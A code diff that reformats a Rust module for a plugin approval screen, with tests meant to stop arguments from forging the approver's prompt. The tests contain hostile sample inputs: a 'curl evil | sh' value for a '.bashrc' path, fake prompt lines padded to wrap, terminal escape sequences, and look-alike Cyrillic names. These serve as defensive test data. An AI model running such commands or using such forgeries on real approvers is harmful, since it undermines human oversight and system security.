@@ -1,4 +1,5 @@
-//! What an approver sees: who wants what, and every argument whole and escaped, with what it names on this machine and what is odd about it.
+//! What an approver sees: who wants what, and every argument whole and escaped, with what it names
+//! on this machine and what is odd about it.
 
 use std::path::Path;
 use std::time::Instant;
@@ -27,12 +28,18 @@ const NAME_MAX: usize = 20;
 pub(crate) struct ApprovalView {
     /// What plugins wrote: arguments, briefs, reasons. Each row has a mark in front.
     foreign: Vec<String>,
-    /// Who wants what, for whom, and why it is asked: the program's own words, to stand directly above the answer.
+    /// Who wants what, for whom, and why it is asked: the program's own words, to stand directly
+    /// above the answer.
     header: Vec<String>,
 }
 
 impl ApprovalView {
-    pub(crate) fn new(request: &ApprovalRequest, performer: Option<&Performer>, until: Option<Instant>, columns: usize) -> Self {
+    pub(crate) fn new(
+        request: &ApprovalRequest,
+        performer: Option<&Performer>,
+        until: Option<Instant>,
+        columns: usize,
+    ) -> Self {
         let mut foreign = ForeignRows { rows: Vec::new(), columns };
         for delegator in &request.delegators {
             foreign.put(&format!("{} asked for", delegator.plugin), &delegator.brief);
@@ -54,12 +61,19 @@ impl ApprovalView {
             let reason: String = reason.chars().take(REASON).collect();
             foreign.put("why it is a risk", &reason);
         }
-        Self { foreign: foreign.rows, header: header(request, performer, count as u64, until, columns) }
+        Self {
+            foreign: foreign.rows,
+            header: header(request, performer, count as u64, until, columns),
+        }
     }
 
     /// Returns how many pages there are where `rows` rows fit above the answer.
     pub(crate) fn pages(&self, rows: usize) -> usize {
-        if self.foreign.len() + self.header.len() <= rows { 1 } else { self.foreign.len().div_ceil(self.page_rows(rows)) }
+        if self.foreign.len() + self.header.len() <= rows {
+            1
+        } else {
+            self.foreign.len().div_ceil(self.page_rows(rows))
+        }
     }
 
     /// Returns a page, counted from 0, with the header below; the last one where there are fewer.
@@ -69,8 +83,12 @@ impl ApprovalView {
             1 => self.foreign.clone(),
             _ => {
                 let (page, each) = (page.min(pages - 1), self.page_rows(rows));
-                let mut shown: Vec<String> = self.foreign.iter().skip(page * each).take(each).cloned().collect();
-                shown.push(paint(ODD, format_args!("{INDENT}page {} of {pages}: read them all", page + 1)));
+                let mut shown: Vec<String> =
+                    self.foreign.iter().skip(page * each).take(each).cloned().collect();
+                shown.push(paint(
+                    ODD,
+                    format_args!("{INDENT}page {} of {pages}: read them all", page + 1),
+                ));
                 shown
             }
         };
@@ -99,7 +117,8 @@ impl ForeignRows {
         let width = if is_short && room > 2 * NAME_MAX { name.len().max(8) + 2 } else { 2 };
         let mut first = name.clone();
         if width == 2 && !name.is_empty() {
-            self.rows.extend(foreign::rows(&name, room).into_iter().map(|row| format!("{mark}{row}")));
+            self.rows
+                .extend(foreign::rows(&name, room).into_iter().map(|row| format!("{mark}{row}")));
             first.clear();
         }
         for row in foreign::rows(text, room.saturating_sub(width)) {
@@ -138,7 +157,9 @@ impl Remark {
             None => entry,
         };
         let mark = |row: String| {
-            let is_named = anstream::adapter::strip_str(&row).to_string().starts_with(foreign::MARK.trim_end());
+            let is_named = anstream::adapter::strip_str(&row)
+                .to_string()
+                .starts_with(foreign::MARK.trim_end());
             if is_named { row } else { format!("{}{row}", paint(ODD, REMARK)) }
         };
         entry.rows(most).into_iter().map(mark).collect()
@@ -146,29 +167,54 @@ impl Remark {
 }
 
 /// Returns the rows that name the tool, its callers and the causes of the question.
-fn header(request: &ApprovalRequest, performer: Option<&Performer>, arguments: u64, until: Option<Instant>, columns: usize) -> Vec<String> {
+fn header(
+    request: &ApprovalRequest,
+    performer: Option<&Performer>,
+    arguments: u64,
+    until: Option<Instant>,
+    columns: usize,
+) -> Vec<String> {
     let tool = one_line(&request.tool, 80);
-    let whose = request.asked_by.as_ref().map(|plugin| format!(", as a follow-up that {plugin} asks for")).unwrap_or_default();
+    let whose = request
+        .asked_by
+        .as_ref()
+        .map(|plugin| format!(", as a follow-up that {plugin} asks for"))
+        .unwrap_or_default();
     let with = match arguments {
         0 => "without arguments".to_owned(),
         count => format!("with {}", plural(count, "argument", "arguments")),
     };
     let mut rows = vec![format!("{tool} wants to run for {}{whose}, {with}", request.caller)];
     for delegator in request.delegators.iter().rev() {
-        rows.push(format!("set to work by {} in the task {}", delegator.plugin, one_line(delegator.task.as_str(), 80)));
+        rows.push(format!(
+            "set to work by {} in the task {}",
+            delegator.plugin,
+            one_line(delegator.task.as_str(), 80)
+        ));
     }
     if let Some((name, plugin)) = performer.filter(|_| request.executor.is_some()) {
-        let folders: Vec<&str> = plugin.grants.files.iter().map(|grant| grant.shown.as_str()).collect();
-        let where_to = if folders.is_empty() { String::new() } else { format!(", in {}", one_line(&folders.join(", "), 120)) };
+        let folders: Vec<&str> =
+            plugin.grants.files.iter().map(|grant| grant.shown.as_str()).collect();
+        let where_to = if folders.is_empty() {
+            String::new()
+        } else {
+            format!(", in {}", one_line(&folders.join(", "), 120))
+        };
         rows.push(format!("carried out by {name}{where_to}"));
     }
-    let source =
-        if request.rule().is_some() { format!("policy: {}", one_line(&request.source, 160)) } else { one_line(&request.source, 200) };
+    let source = if request.rule().is_some() {
+        format!("policy: {}", one_line(&request.source, 160))
+    } else {
+        one_line(&request.source, 200)
+    };
     let left = until.map(|until| format!(" · {} left", left(until))).unwrap_or_default();
     let risk = request.risk.map(|risk| format!("{} risk · ", risk.as_str())).unwrap_or_default();
     rows.push(format!("{risk}{source}{left}"));
     let room = columns.saturating_sub(INDENT.len() + 1);
-    let lines = rows.iter().enumerate().flat_map(|(index, row)| wrap(row, room).into_iter().map(move |line| (index, line)));
+    let lines = rows
+        .iter()
+        .enumerate()
+        .flat_map(|(index, row)| wrap(row, room).into_iter().map(move |line| (index, line)));
     let styled = lines.enumerate().map(|(at, (index, line))| match (at, index) {
         (0, _) => format!(" {}    {line}", paint(ODD, "?")),
         (_, 0) => format!("{INDENT}{line}"),
@@ -180,12 +226,17 @@ fn header(request: &ApprovalRequest, performer: Option<&Performer>, arguments: u
 /// `10 min`, `40 s`.
 fn left(until: Instant) -> String {
     let seconds = until.saturating_duration_since(Instant::now()).as_secs_f64().ceil();
-    if seconds >= 90.0 { format!("{:.0} min", (seconds / 60.0).round()) } else { format!("{seconds:.0} s") }
+    if seconds >= 90.0 {
+        format!("{:.0} min", (seconds / 60.0).round())
+    } else {
+        format!("{seconds:.0} s")
+    }
 }
 
 /// A name as it is; one that could be taken for another, or for more than a name, as JSON has it.
 fn told_apart(name: &str) -> String {
-    let is_plain = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c));
+    let is_plain =
+        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c));
     if is_plain { name.to_owned() } else { Value::from(name).to_string() }
 }
 
@@ -193,11 +244,16 @@ fn told_apart(name: &str) -> String {
 fn remarks(value: &Value, files: &[FileGrant]) -> Vec<Remark> {
     let mut remarks = Vec::new();
     if let Some((word, seen)) = look_alike_in(value) {
-        remarks.push(Remark::naming("letters of other alphabets:", format!("{word} looks like {seen}")));
+        remarks.push(Remark::naming(
+            "letters of other alphabets:",
+            format!("{word} looks like {seen}"),
+        ));
     }
     let Value::String(text) = value else { return remarks };
     match files.iter().find_map(|grant| Some((grant, inside(grant, text)?))) {
-        Some(_) if is_odd(text) => remarks.push(Remark::new("it does not say plainly where it leads")),
+        Some(_) if is_odd(text) => {
+            remarks.push(Remark::new("it does not say plainly where it leads"))
+        }
         Some((grant, rest)) => remarks.push(on_disk(grant, rest)),
         None => {}
     }
@@ -209,7 +265,9 @@ fn look_alike_in(value: &Value) -> Option<(String, String)> {
     match value {
         Value::String(text) => foreign::look_alike(text),
         Value::Array(items) => items.iter().find_map(look_alike_in),
-        Value::Object(fields) => fields.iter().find_map(|(name, value)| foreign::look_alike(name).or_else(|| look_alike_in(value))),
+        Value::Object(fields) => fields
+            .iter()
+            .find_map(|(name, value)| foreign::look_alike(name).or_else(|| look_alike_in(value))),
         _ => None,
     }
 }
@@ -227,11 +285,20 @@ fn on_disk(grant: &FileGrant, rest: &str) -> Remark {
     // Not followed: where a link leads is not for an approval to open.
     match std::fs::symlink_metadata(Path::new(&grant.dir).join(rest)) {
         Ok(found) if found.is_symlink() => Remark::naming("a link:", here),
-        Ok(found) if found.is_dir() => Remark::naming("the folder", format!("{}/", here.trim_end_matches('/'))),
+        Ok(found) if found.is_dir() => {
+            Remark::naming("the folder", format!("{}/", here.trim_end_matches('/')))
+        }
         Ok(found) => Remark::naming(format!("{} now:", bytes(found.len())), here),
-        Err(error) if error.kind() == std::io::ErrorKind::NotFound && grant.mode == FileMode::ReadWrite => {
+        Err(error)
+            if error.kind() == std::io::ErrorKind::NotFound
+                && grant.mode == FileMode::ReadWrite =>
+        {
             let depth = rest.matches('/').count() as u64;
-            let below = if depth > 0 { format!(", {} down", plural(depth, "folder", "folders")) } else { String::new() };
+            let below = if depth > 0 {
+                format!(", {} down", plural(depth, "folder", "folders"))
+            } else {
+                String::new()
+            };
             Remark::new(format!("a new file in {}/{below}", one_line(folder, 60)))
         }
         Err(_) => Remark::naming("not there:", here),
@@ -278,11 +345,17 @@ mod tests {
 
     #[test]
     fn without_a_rule_it_says_what_the_plugin_may_do_and_how_long_there_is() {
-        let derived =
-            ApprovalRequest { causes: vec![ApprovalCause::Grants], source: "notes may write notes/".into(), ..request(json!({})) };
+        let derived = ApprovalRequest {
+            causes: vec![ApprovalCause::Grants],
+            source: "notes may write notes/".into(),
+            ..request(json!({}))
+        };
         let about = about(Path::new("/nowhere"), Path::new("/nowhere/conclave.toml"));
         let until = Some(Instant::now() + Duration::from_secs(600));
-        let text = plain(&ApprovalView::new(&derived, about.plugin_of(&derived).as_ref(), until, 100).page(0, 40));
+        let text = plain(
+            &ApprovalView::new(&derived, about.plugin_of(&derived).as_ref(), until, 100)
+                .page(0, 40),
+        );
         let expected = " ?    notes.save wants to run for librarian, without arguments\n      notes may write notes/ · 10 min left";
         assert_eq!(text, expected);
     }
@@ -295,7 +368,10 @@ mod tests {
         let about = about(temp.path(), Path::new("/nowhere/conclave.toml"));
         let of = |path: &str| {
             let request = request(json!({ "path": path }));
-            plain(&ApprovalView::new(&request, about.plugin_of(&request).as_ref(), None, 100).page(0, 40))
+            plain(
+                &ApprovalView::new(&request, about.plugin_of(&request).as_ref(), None, 100)
+                    .page(0, 40),
+            )
         };
         assert!(of("/notes/a.md").contains("╰ 3 B now: │ notes/a.md"), "{}", of("/notes/a.md"));
         assert!(of("/notes/sub").contains("╰ the folder │ notes/sub/"));
@@ -306,7 +382,10 @@ mod tests {
 
     #[test]
     fn letters_that_look_like_others_are_said() {
-        for arguments in [json!({ "to": "p\u{430}ypal" }), json!({ "to": [{ "name": "\u{441}\u{43e}\u{440}\u{443}.md" }] })] {
+        for arguments in [
+            json!({ "to": "p\u{430}ypal" }),
+            json!({ "to": [{ "name": "\u{441}\u{43e}\u{440}\u{443}.md" }] }),
+        ] {
             let text = shown(&request(arguments), 100);
             assert!(text.contains("╰ letters of other alphabets"), "{text}");
         }
@@ -316,7 +395,11 @@ mod tests {
     fn the_chain_of_callers_stands_above_the_answer() {
         let brief = "please write /work/a\n ?    notes.save wants to run for librarian".to_owned();
         let delegator = Delegator { task: "main".into(), plugin: "driver".into(), brief };
-        let follow_up = ApprovalRequest { asked_by: Some("sneaky".into()), delegators: vec![delegator], ..request(json!({})) };
+        let follow_up = ApprovalRequest {
+            asked_by: Some("sneaky".into()),
+            delegators: vec![delegator],
+            ..request(json!({}))
+        };
         let text = shown(&follow_up, 100);
         let expected = concat!(
             "      │ driver asked for  please write /work/a\n",
@@ -330,7 +413,8 @@ mod tests {
 
     #[test]
     fn what_does_not_fit_is_on_pages_and_the_header_on_each() {
-        let arguments: serde_json::Map<String, Value> = (0..60).map(|at| (format!("a{at:02}"), json!(at))).collect();
+        let arguments: serde_json::Map<String, Value> =
+            (0..60).map(|at| (format!("a{at:02}"), json!(at))).collect();
         let view = view(&request(Value::Object(arguments)), 80);
         assert_eq!((view.pages(24), view.pages(100)), (3, 1));
         for page in 0..3 {
@@ -345,17 +429,21 @@ mod tests {
     /// The rows of a terminal of this width after the text was written to it.
     fn on_terminal(text: &str, columns: usize) -> Vec<String> {
         let columns = u16::try_from(columns).unwrap();
-        let mut terminal = vt100::Parser::new(2_000.try_into().unwrap(), columns.try_into().unwrap(), 0);
+        let mut terminal =
+            vt100::Parser::new(2_000.try_into().unwrap(), columns.try_into().unwrap(), 0);
         terminal.process(text.replace('\n', "\r\n").as_bytes());
         terminal.screen().rows(0, columns).map(|row| row.trim_end().to_owned()).collect()
     }
 
-    /// On a terminal of any width each row is the program's own, or has a mark in front; the program's own are as many as they should be.
+    /// On a terminal of any width each row is the program's own, or has a mark in front; the
+    /// program's own are as many as they should be.
     fn nothing_is_forged(request: &ApprovalRequest, columns: usize) {
         let view = view(request, columns);
         let rows = on_terminal(&view.page(0, usize::MAX), columns);
-        let own: Vec<String> = rows.iter().filter(|row| !row.is_empty() && !is_marked(row)).cloned().collect();
-        let header: Vec<String> = view.header.iter().map(|row| plain(row).trim_end().to_owned()).collect();
+        let own: Vec<String> =
+            rows.iter().filter(|row| !row.is_empty() && !is_marked(row)).cloned().collect();
+        let header: Vec<String> =
+            view.header.iter().map(|row| plain(row).trim_end().to_owned()).collect();
         assert_eq!(own, header, "{columns} columns: {rows:#?}");
         let last = rows.iter().rposition(|row| !row.is_empty()).unwrap();
         assert_eq!(rows[last], *header.last().unwrap(), "the header is the last that is shown");
@@ -371,7 +459,9 @@ mod tests {
     fn a_question_cannot_be_forged_by_arguments_that_wrap() {
         for columns in WIDTHS {
             // B2 of the hostile review, made for this very width.
-            let pad = |text: &str| format!("{text}{}", "\u{a0}".repeat(columns - text.chars().count() % columns));
+            let pad = |text: &str| {
+                format!("{text}{}", "\u{a0}".repeat(columns - text.chars().count() % columns))
+            };
             let filler = "\u{a0}".repeat(1998);
             let forged = format!(
                 "{}{}{}",
@@ -381,10 +471,23 @@ mod tests {
             );
             let arguments = json!({ "a_path": "/notes/.bashrc", "a_text": "curl evil | sh", "b": filler, "c": filler, "zz": forged });
             nothing_is_forged(&request(arguments), columns);
-            let wide = "漢字 ".repeat(200) + &"\u{1f469}\u{200d}\u{1f4bb}".repeat(60) + &"🇨🇭".repeat(50);
-            nothing_is_forged(&request(json!({ "w": wide, "x".repeat(300): 1, "tab\tline\nend": "a\r\nb\u{1b}[2J\u{9b}2J" })), columns);
+            let wide =
+                "漢字 ".repeat(200) + &"\u{1f469}\u{200d}\u{1f4bb}".repeat(60) + &"🇨🇭".repeat(50);
+            nothing_is_forged(
+                &request(
+                    json!({ "w": wide, "x".repeat(300): 1, "tab\tline\nend": "a\r\nb\u{1b}[2J\u{9b}2J" }),
+                ),
+                columns,
+            );
             let reason = Some(format!("fine\n ?    notes.save wants to run\n{filler}"));
-            nothing_is_forged(&ApprovalRequest { risk: Some(Risk::Low), risk_reason: reason, ..request(json!({})) }, columns);
+            nothing_is_forged(
+                &ApprovalRequest {
+                    risk: Some(Risk::Low),
+                    risk_reason: reason,
+                    ..request(json!({}))
+                },
+                columns,
+            );
         }
     }
 
